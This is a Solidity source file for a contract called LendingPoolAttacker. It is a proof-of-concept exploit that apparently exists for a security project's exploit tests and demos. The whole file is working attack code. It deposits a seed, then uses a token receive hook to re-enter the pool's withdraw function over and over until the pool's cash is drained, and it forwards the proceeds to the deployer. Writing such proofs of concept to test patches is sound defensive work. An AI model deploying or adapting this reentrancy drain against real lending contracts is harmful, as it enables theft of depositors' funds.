// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {IDemoTokenRecipient} from "./interfaces/IDemoTokenRecipient.sol";

/// @notice The part of {LendingPool} the exploit uses.
interface ILendingPoolTarget {
    /// @notice Deposits `assets` from the caller.
    /// @param assets Amount to deposit.
    function deposit(uint256 assets) external;

    /// @notice Withdraws `assets` of the caller's deposit.
    /// @param assets Amount to withdraw.
    function withdraw(uint256 assets) external;

    /// @notice All deposits in assets.
    /// @return The total.
    function totalDeposits() external view returns (uint256);

    /// @notice `account`'s deposit in assets.
    /// @param account The depositor.
    /// @return The deposit.
    function depositBalanceOf(address account) external view returns (uint256);
}

/// @notice The part of {DemoToken} the exploit uses.
interface IHookedToken is IERC20 {
    /// @notice Turns the caller's receive hook on or off.
    /// @param registered Whether credits to the caller call its hook.
    function setReceiveHook(bool registered) external;
}

/**
 * @title LendingPoolAttacker
 * @notice Proof of concept for {LendingPool} V1's reentrancy through a token callback: in one
 * transaction it deposits `seed`, withdraws it, and from the asset's receive hook withdraws the same
 * deposit again and again until the pool's cash is gone; the loot goes to the attacker's account.
 * Incident class: reentrancy via ERC-777-style callback (Lendf.me/imBTC 2020, Cream Finance/AMP 2021).
 * @dev Exists for Bulwark's exploit tests and demos: it is what a patch must be shown to stop.
 */
contract LendingPoolAttacker is IDemoTokenRecipient {
    ILendingPoolTarget private immutable _pool;
    IHookedToken private immutable _asset;
    address private immutable _beneficiary;

    uint256 private _chunk;
    uint256 private _remaining;
    uint256 private _reentries;

    /**
     * @notice Emitted when an attack completed.
     * @param seed Capital put in.
     * @param proceeds Assets sent to the beneficiary (seed included).
     * @param reentries Times the pool was re-entered.
     */
    event AttackExecuted(uint256 seed, uint256 proceeds, uint256 reentries);

    /**
     * @notice Only the deployer may run the attack.
     * @param caller The account that tried.
     */
    error LendingPoolAttackerUnauthorized(address caller);

    /**
     * @notice Targets `pool`; the deployer is the only account that can run the attack and receives the loot.
     * @param pool The pool to drain.
     * @param asset_ Its asset, a token with receive hooks.
     */
    constructor(ILendingPoolTarget pool, IHookedToken asset_) {
        _pool = pool;
        _asset = asset_;
        _beneficiary = msg.sender;
    }

    /**
     * @notice Runs the exploit with `seed` of the asset pulled from the beneficiary (who approved this contract).
     * @param seed Capital to deposit; each re-entry withdraws up to this much again.
     */
    function attack(uint256 seed) external {
        if (msg.sender != _beneficiary) revert LendingPoolAttackerUnauthorized(msg.sender);
        _asset.transferFrom(msg.sender, address(this), seed);
        _asset.approve(address(_pool), seed);
        _asset.setReceiveHook(true);
        _pool.deposit(seed);

        // Withdrawing more than all deposits would underflow the pool's total and revert the whole attack.
        _remaining = Math.min(_asset.balanceOf(address(_pool)), _pool.totalDeposits());
        // The deposit is credited rounded down, so the first withdrawal asks for exactly what was credited.
        _chunk = _pool.depositBalanceOf(address(this));
        _reentries = 0;
        _withdrawNext();

        uint256 proceeds = _asset.balanceOf(address(this));
        _asset.transfer(_beneficiary, proceeds);
        emit AttackExecuted(seed, proceeds, _reentries);
    }

    /// @inheritdoc IDemoTokenRecipient
    function onTokenReceived(address, address from, uint256) external {
        if (msg.sender != address(_asset) || from != address(_pool) || _remaining == 0) return;
        _reentries += 1;
        _withdrawNext();
    }

    /// @dev One more withdrawal of the same (already withdrawn) deposit, capped by what is left to take.
    function _withdrawNext() private {
        uint256 amount = Math.min(_chunk, _remaining);
        _remaining -= amount;
        _pool.withdraw(amount);
    }
}
